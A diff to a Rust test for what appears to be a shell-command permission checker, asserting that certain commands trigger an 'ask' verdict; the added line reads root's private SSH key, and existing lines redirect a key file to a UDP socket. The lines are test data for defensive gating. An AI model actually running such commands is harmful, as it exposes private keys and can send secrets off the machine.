@@ -128,6 +128,7 @@ fn reads_outside_the_project_and_network_redirections_ask() {
         "cat key 3<>/dev/udp/h/1 >&3",
         "cat key >&3",
         "cat key 2>&5",
+        "cat ~root/.ssh/id_rsa",
     ] {
         match verdict(&none, line) {
             Verdict::Ask { reason, .. } => {
